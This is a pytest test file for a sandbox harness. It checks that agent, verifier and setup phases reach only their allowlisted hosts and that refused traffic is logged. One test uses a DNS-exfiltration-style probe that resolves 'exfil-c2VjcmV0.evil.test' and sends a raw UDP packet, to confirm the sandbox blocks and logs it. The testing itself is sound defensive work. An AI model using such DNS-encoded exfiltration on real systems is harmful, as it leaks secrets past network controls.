"""Egress through whole cells on the local executor: records, egress.log, phases, failures, Ctrl-C."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from pytest_maka.egress import host, tunguard
from pytest_maka.egress.log import PAST_PROXY
from pytest_maka.testing.servers import EGRESS_TOKEN, HttpServer, http_server

from ..conftest import Cohort, needs_bwrap
from .procs import processes_with_env

pytestmark = [pytest.mark.sandbox, needs_bwrap, pytest.mark.needs("tinyproxy", "forwarder", "curl")]

LOCAL = {"kind": "local", "egress_hosts": {"allowed.test": "127.0.0.1"}}
#: This host lets the harness make a TUN device in each sandbox: traffic past the proxy is logged.
LOGS_PAST_PROXY = tunguard.unavailable() is None
OFF_PROXY = "refused and logged" if LOGS_PAST_PROXY else f"not logged: {tunguard.unavailable()}"


def fetch(url: str, out: str, *args: str) -> str:
    """Shell: fetch ``url`` through the proxy (curl honours http_proxy) and append the result to ``out``."""
    return f"curl -s -m 10 {' '.join(args)} -o - -w ' %{{http_code}}\\n' {url} >> {out} 2>&1; "


@pytest.fixture
def server() -> Iterator[HttpServer]:
    with http_server() as s:
        yield s


def test_agent_reaches_only_its_allowlist_and_the_record_says_so(cohort: Cohort, server: HttpServer) -> None:
    cohort.task("t")
    cmd = fetch(f"http://allowed.test:{server.port}/agent", "$MAKA_LOGS_DIR/net.txt")
    cmd += fetch(f"http://telemetry.test:{server.port}/t", "$MAKA_LOGS_DIR/net.txt")
    cmd += fetch(f"http://127.0.0.1:{server.port}/ip", "$MAKA_LOGS_DIR/net.txt", "--noproxy ''")
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": cmd}, {"name": "b", "kind": "command", "command": cmd}],
        executor=LOCAL,
        policy={"egress": [f"allowed.test:{server.port}"]},
    )
    cohort.run("-n", "2").assert_outcomes(failed=2)
    assert sorted(server.paths) == ["/agent", "/agent"], "only the listed host was reached, once per cell"
    for name in ("a", "b"):
        record = cohort.results()[f"t[{name}-r0]"]
        net = record["isolation"]["network"]
        assert net["agent"] == "allowlist" and net["verifier"] == "none" and net["setup"] == "none"
        agent = net["phases"]["agent"]
        assert agent["allowed"] == [f"allowed.test:{server.port}"]
        assert agent["connections"] == {"allowed": 1, "refused": 2}
        assert set(agent["refused_destinations"]) == {f"telemetry.test:{server.port}", f"127.0.0.1:{server.port}"}
        seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
        assert seen.count(EGRESS_TOKEN) == 1 and seen.count(" 403") == 2, seen
        lines = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
        assert [(x["phase"], x["allowed"]) for x in lines] == [("agent", True), ("agent", False), ("agent", False)]
        assert set(lines[0]) == {
            "time", "phase", "method", "destination", "allowed", "bytes", "bytes_out", "bytes_in", "sni", "reason",
            "statuses",
        }  # fmt: skip
        assert all(x["bytes"] == x["bytes_out"] + x["bytes_in"] and x["bytes_in"] > 0 for x in lines), lines
        assert [x["statuses"] for x in lines] == [[200], [403], [403]], lines  # the server's, then the proxy's
    summary = (cohort.out / "summary.md").read_text()
    for name in ("a", "b"):
        assert f"| {name} | agent | telemetry.test:{server.port} | 1 | 1 |" in summary, summary
    html = (cohort.out / "report.html").read_text()
    assert 'id="egress"' in html and f"telemetry.test:{server.port}" in html


def test_verifier_phase_gets_only_its_own_allowlist(cohort: Cohort, server: HttpServer) -> None:
    with http_server() as index:
        agent_url, index_url = f"http://allowed.test:{server.port}/", f"http://allowed.test:{index.port}/"
        test = (
            fetch(index_url + "verifier", "/logs/verifier/net.txt")
            + fetch(agent_url + "verifier", "/logs/verifier/net.txt")
            + "if grep -c ' 200' /logs/verifier/net.txt | grep -qx 1 && grep -q ' 403' /logs/verifier/net.txt;"
            " then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"
        )
        cohort.task("t", test=test)
        out = "$MAKA_LOGS_DIR/net.txt"
        cmd = fetch(agent_url + "agent", out) + fetch(index_url + "agent", out)
        cohort.write(
            subjects=[{"name": "a", "kind": "command", "command": cmd}],
            executor=LOCAL,
            policy={"egress": [f"allowed.test:{server.port}"], "verifier_egress": [f"allowed.test:{index.port}"]},
        )
        cohort.run().assert_outcomes(passed=1)
        assert server.paths == ["/agent"] and index.paths == ["/verifier"]
    record = cohort.results()["t[a-r0]"]
    phases = record["isolation"]["network"]["phases"]
    assert phases["agent"]["connections"] == {"allowed": 1, "refused": 1}
    assert phases["verifier"]["connections"] == {"allowed": 1, "refused": 1}
    assert phases["verifier"]["allowed"] == [f"allowed.test:{index.port}"]


def test_task_hosts_the_policy_does_not_grant_are_left_out_and_said(cohort: Cohort, server: HttpServer) -> None:
    hosts = f'network_mode = "allowlist"\nallowed_hosts = ["allowed.test:{server.port}", "pypi.test"]\n'
    cohort.task("t", extra_toml=hosts)
    cmd = fetch(f"http://allowed.test:{server.port}/x", "$MAKA_LOGS_DIR/net.txt")
    cohort.write(subjects=[{"name": "a", "kind": "command", "command": cmd}], executor=LOCAL)
    cohort.run().assert_outcomes(failed=1)
    assert server.paths == []
    net = cohort.results()["t[a-r0]"]["isolation"]["network"]
    assert net["agent"] == "none"
    assert net["phases"]["agent"] == {
        "mode": "none",
        "declared": "allowlist",
        "not_granted": [f"allowed.test:{server.port}", "pypi.test"],
    }
    subjects = [{"name": "b", "kind": "command", "command": cmd}]
    cohort.write(subjects=subjects, executor=LOCAL, policy={"agent_network": True})
    cohort.run().assert_outcomes(failed=1)
    granted = cohort.results()["t[b-r0]"]["isolation"]["network"]["phases"]["agent"]
    assert granted["mode"] == "allowlist" and granted["allowed"] == [f"allowed.test:{server.port}", "pypi.test"]
    assert server.paths == ["/x"]


def test_a_proxy_that_cannot_start_is_infra_failure_never_an_open_network(
    cohort: Cohort, server: HttpServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(host, "TINYPROXY", "/nonexistent/tinyproxy")
    cohort.task("t")
    cmd = fetch(f"http://allowed.test:{server.port}/x", "$MAKA_LOGS_DIR/net.txt")
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": cmd}],
        executor=LOCAL,
        policy={"egress": [f"allowed.test:{server.port}"]},
        retries={"infra": 0},
    )
    result = cohort.run()
    assert result.ret == 7
    record = cohort.results()["t[a-r0]"]
    assert record["status"] == "infra_failure"
    assert "egress proxy for the agent phase" in record["error"]["message"]
    assert "apt-get install tinyproxy-bin socat" in record["error"]["message"]
    assert server.paths == []


def _is_zombie(pid: str) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except (OSError, IndexError):
        return True


def _processes_mentioning(text: str) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text in cmdline and int(pid) != os.getpid() and not _is_zombie(pid):
            found.append(f"{pid}: {cmdline}")
    return found


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGKILL], ids=["ctrl-c", "killed"])
def test_no_proxy_outlives_its_harness(cohort: Cohort, server: HttpServer, sig: signal.Signals) -> None:
    marker = f"egress-{uuid.uuid4().hex[:10]}"  # the subject's name, hence in the proxy's paths
    cohort.task("t", agent_timeout=120)
    cmd = fetch(f"http://allowed.test:{server.port}/started", "$MAKA_LOGS_DIR/net.txt") + "sleep 120"
    cohort.write(  # the marker is in the environment of what runs in the sandbox, the forwarder included
        subjects=[{"name": marker, "kind": "command", "command": cmd, "set_env": {"FWD_MARK": marker}}],
        executor=LOCAL,
        policy={"egress": [f"allowed.test:{server.port}"]},
    )
    proc = subprocess.Popen(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", *cohort.args()],
        cwd=cohort.root,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 60
        while server.paths != ["/started"] and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.02)
        assert server.paths == ["/started"], "the subject never reached the proxy"
        running = _processes_mentioning(marker)
        assert any("tinyproxy -d" in p for p in running), running
        sockets = list(Path("/tmp").glob(f"maka-egress-*{marker}*/{host.SOCKET_NAME}"))
        assert sockets and sockets[0].is_socket(), "the relay listens on the proxy's socket"
        in_sandbox = processes_with_env(marker)
        assert any(f"{host.PYTHON} -I -S {host.SANDBOX_DIR}/forwarder.py" in p for p in in_sandbox), in_sandbox
        proc.send_signal(sig)
        proc.wait(60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    deadline = time.monotonic() + 10
    while (_processes_mentioning(marker) or processes_with_env(marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_mentioning(marker) == []
    assert processes_with_env(marker) == [], "no forwarder outlives the run"


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's DNS reaches the relay only when bwrap runs as root")
def test_dns_questions_are_logged_and_udp_goes_nowhere(cohort: Cohort, server: HttpServer) -> None:
    """A subject that resolves names itself, or sends a raw UDP packet, gets nothing; its questions are logged,
    and so is the datagram (given to the sandbox's own TUN device, where the harness can make one)."""
    cohort.task("t")
    probe = (
        "import socket\n"
        "for name in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
        "    try: print(name, socket.getaddrinfo(name, 80))\n"
        "    except OSError as e: print(name, 'FAILED', e)\n"
        "try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.7', 9)); print('udp sent')\n"
        "except OSError as e: print('udp FAILED', e)\n"
    )
    cmd = 'python3 -c "$P" > $MAKA_LOGS_DIR/dns.txt 2>&1; ' + fetch(
        f"http://allowed.test:{server.port}/agent", "$MAKA_LOGS_DIR/net.txt"
    )
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": cmd, "set_env": {"P": probe}}],
        executor=LOCAL,
        policy={"egress": [f"allowed.test:{server.port}"]},
    )
    cohort.run().assert_outcomes(failed=1)
    record = cohort.results()["t[a-r0]"]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
    # neither name resolves in the sandbox; the datagram fails at once (no route) or goes to the harness's device
    assert seen.count("FAILED") == (2 if LOGS_PAST_PROXY else 3), seen
    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
    udp = [(e["method"], e["destination"], e["allowed"]) for e in events if e["reason"] == PAST_PROXY]
    assert udp == ([("UDP", "198.51.100.7:9", False)] if LOGS_PAST_PROXY else []), events
    asked = {e["destination"] for e in events if e["method"] == "DNS"}
    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
    assert all(not e["allowed"] for e in events if e["method"] == "DNS")
    assert [e["destination"] for e in events if e["allowed"]] == [f"allowed.test:{server.port}"]
    refused = record["isolation"]["network"]["phases"]["agent"]["refused_destinations"]
    assert "exfil-c2VjcmV0.evil.test:53" in refused


def test_setup_phase_runs_under_its_own_plan(cohort: Cohort, server: HttpServer) -> None:
    cohort.task("t")
    cmd = fetch(f"http://allowed.test:{server.port}/agent", "$MAKA_LOGS_DIR/net.txt")
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": cmd}],
        executor=LOCAL,
        policy={"setup_egress": [f"allowed.test:{server.port}"]},
    )
    cohort.run().assert_outcomes(failed=1)
    assert server.paths == [], "the setup phase's hosts are not the agent's"
    net = cohort.results()["t[a-r0]"]["isolation"]["network"]
    assert net["setup"] == "allowlist" and net["agent"] == "none"
    assert net["phases"]["setup"] == {
        "mode": "allowlist",
        "declared": "public",
        "allowed": [f"allowed.test:{server.port}"],
        "connections": {"allowed": 0, "refused": 0},
        "refused_destinations": {},
        "off_proxy": OFF_PROXY,
    }
